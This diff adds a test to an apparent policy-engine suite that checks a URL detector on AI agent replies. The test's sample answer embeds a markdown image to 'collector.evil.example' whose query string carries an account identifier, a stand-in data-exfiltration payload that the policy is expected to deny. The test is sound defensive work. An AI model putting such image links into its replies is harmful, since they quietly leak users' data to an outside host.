@@ -221,6 +221,29 @@ layer(testServer("database"), SERVER_OPTIONS)("detector policies", (it) => {
     })
   )
 
+  it.effect("url with images_only denies an answer whose image would carry data off; links pass", () =>
+    Effect.gen(function* () {
+      const { base, owner } = yield* setUp
+      yield* createMatchPolicy(base, owner, "no-image-exfiltration", {
+        type: "detector",
+        detector: "url",
+        images_only: true,
+        allow: ["cdn.example.com"],
+        target: "content"
+      })
+      const answer = "Done! ![status](https://collector.evil.example/p.png?d=acct-4471) Anything else?"
+      const decision = yield* propose(base, owner, AGENT, reply(answer))
+      expect(decision.effect).toBe("deny")
+      expect(evidenceOf(decision, "no-image-exfiltration")).toMatchObject({
+        matches: [{ detector: "url", category: "unlisted_domain" }],
+        spans: [{ start: 16, end: 64 }]
+      })
+      expect(answer.slice(16, 64)).toBe("https://collector.evil.example/p.png?d=acct-4471")
+      const fine = "Docs: [guide](https://collector.evil.example/guide) ![logo](https://cdn.example.com/logo.png)"
+      expect((yield* propose(base, owner, AGENT, reply(fine))).effect).toBe("permit")
+    })
+  )
+
   it.effect("a detector on a params target reads that value", () =>
     Effect.gen(function* () {
       const { base, owner } = yield* setUp
